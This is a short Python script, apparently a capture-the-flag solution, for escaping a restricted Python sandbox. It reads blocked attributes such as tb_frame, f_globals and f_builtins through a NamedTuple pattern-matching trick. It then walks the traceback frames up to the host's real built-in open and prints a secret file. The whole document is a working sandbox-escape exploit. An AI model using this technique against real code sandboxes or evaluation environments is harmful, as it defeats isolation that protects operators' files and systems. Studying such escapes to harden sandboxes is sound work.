# A NamedTuple of typing with a locked word as its field climbs from frame to frame to the game's own code.
from abc import ABC
from typing import NamedTuple

class Catch:
    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        self.trace = trace
        return True

def read(thing, word):
    class Pattern(NamedTuple("P", [(word, int)]), ABC):
        pass
    Pattern.register(type(thing))
    match thing:
        case Pattern(value):
            return value

with Catch() as catch:
    1 / 0
frame = read(catch.trace, "tb_frame")
while frame:
    names = read(frame, "f_globals")
    built = read(frame, "f_builtins")
    if "built-in" in str(built["open"]):
        print(built["open"](SECRET_FILE).read())
        break
    frame = read(frame, "f_back")
